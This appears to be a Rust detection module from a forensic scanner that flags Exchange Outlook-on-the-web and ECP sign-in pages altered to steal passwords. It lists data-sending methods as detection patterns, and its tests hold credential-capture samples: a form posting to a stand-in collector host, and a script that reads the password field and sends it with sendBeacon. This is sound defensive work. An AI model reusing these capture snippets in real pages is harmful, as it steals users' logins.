//! Outlook on the web and ECP sign-in pages changed to capture
//! credentials, judged by content (their hashes differ per build and
//! update, so no allowlist of hashes can hold).
//!
//! Intruders who kept access to Exchange servers after 2021 edited
//! `owa\auth\logon.aspx` and the scripts it loads (`flogon.js` and
//! friends) to copy every password typed: a form posting to another
//! origin, a script from another origin, or script that reads the
//! password field and sends it (`XMLHttpRequest`, `fetch`, `sendBeacon`,
//! an image request). Exchange's own pages post to `/owa/auth.owa` and
//! load their scripts from the server itself.

use vigie_model::{Family, Finding, Grade, Severity};

use super::rules::{FileCtx, OWA_TAMPER, details};

/// Where the sign-in pages and their scripts live (lower case).
const PLACES: &[&str] = &[
    r"\frontend\httpproxy\owa\auth\",
    r"\frontend\httpproxy\ecp\auth\",
    r"\clientaccess\owa\auth\",
    r"\clientaccess\ecp\auth\",
];

/// File kinds judged.
const EXTS: &[&str] = &["aspx", "js", "htm", "html", "ascx", "master"];

/// Ways a script sends data out.
const SENDS: &[&str] = &[
    "xmlhttprequest",
    "fetch(",
    "sendbeacon",
    "new image",
    "$.post",
    "$.ajax",
];

/// Whether this file is one the check reads.
pub fn applies(ctx: &FileCtx<'_>) -> bool {
    EXTS.contains(&ctx.ext.as_str())
        && PLACES.iter().any(|p| ctx.win.lower.contains(p))
}

/// What the content shows, strongest first: `(signal, grade)`.
pub fn signals(content: &[u8]) -> Vec<(&'static str, Grade)> {
    let text = String::from_utf8_lossy(content).to_ascii_lowercase();
    let mut out = Vec::new();
    let foreign_form = attr_is_foreign(&text, "<form", "action=");
    let foreign_script = attr_is_foreign(&text, "<script", "src=");
    let reads_password = reads_password(&text);
    let sends = SENDS.iter().any(|s| text.contains(s));
    if foreign_form {
        out.push(("a form posts to another origin", Grade::Compromised));
    }
    if reads_password && sends {
        out.push((
            "script reads the password field and sends data out",
            Grade::Compromised,
        ));
    }
    if foreign_script {
        let grade =
            if reads_password { Grade::Compromised } else { Grade::Attempt };
        out.push(("a script is loaded from another origin", grade));
    }
    out
}

/// Judge one sign-in page or script.
pub fn check(ctx: &FileCtx<'_>, content: &[u8]) -> Option<Finding> {
    let found = signals(content);
    let grade = found.iter().map(|(_, g)| *g).max()?;
    let why: Vec<&str> = found.iter().map(|(s, _)| *s).collect();
    let severity = match grade {
        Grade::Compromised => Severity::Critical,
        _ => Severity::High,
    };
    let summary = format!(
        "{} changed to capture credentials: {}",
        ctx.win.display,
        why.join("; ")
    );
    let d = details([("signals", why.join("; "))]);
    let mut f = ctx.finding(&OWA_TAMPER, grade, severity, summary, d);
    f.family = Family::Persistence;
    Some(f)
}

/// Whether any `tag` element's `attr` is an absolute URL (`http(s)://`
/// or protocol-relative `//`): another origin than the server's own.
fn attr_is_foreign(text: &str, tag: &str, attr: &str) -> bool {
    text.match_indices(tag).any(|(i, _)| {
        let end = text[i..].find('>').map_or(text.len(), |e| i + e);
        let el = &text[i..end];
        el.match_indices(attr).any(|(j, _)| {
            let v = el[j + attr.len()..].trim_start_matches(['"', '\'', ' ']);
            v.starts_with("http://")
                || v.starts_with("https://")
                || v.starts_with("//")
        })
    })
}

/// Script that reads what was typed in the password field: the field by
/// id or name next to `.value`, or the whole form's fields.
fn reads_password(text: &str) -> bool {
    text.match_indices("password").any(|(i, _)| {
        let from = i.saturating_sub(80);
        let to = (i + 80).min(text.len());
        let near = text.get(from..to).unwrap_or("");
        near.contains(".value")
            || near.contains("document.forms")
            || near.contains("formdata")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exchange_like_sign_in_page_is_clean() {
        let page = br#"<form action="/owa/auth.owa" method="POST" name="logonForm">
<script type="text/javascript" src="/owa/auth/15.2.1544/scripts/premium/flogon.js"></script>
<input id="password" name="password" type="password" onfocus="g_fFcs=0">
</form>"#;
        assert!(signals(page).is_empty());
    }

    #[test]
    fn each_capture_shape_is_seen() {
        let form =
            br#"<form action="https://collect.example/p" method="POST">"#;
        assert_eq!(signals(form)[0].1, Grade::Compromised);
        let js = b"var p=document.getElementById('password').value;\
                   navigator.sendBeacon('/x',p);";
        assert_eq!(
            signals(js)[0].0,
            "script reads the password field and sends data out"
        );
        let ext = br#"<script src="//cdn.example/a.js"></script>"#;
        assert_eq!(
            signals(ext),
            [("a script is loaded from another origin", Grade::Attempt)]
        );
    }
}
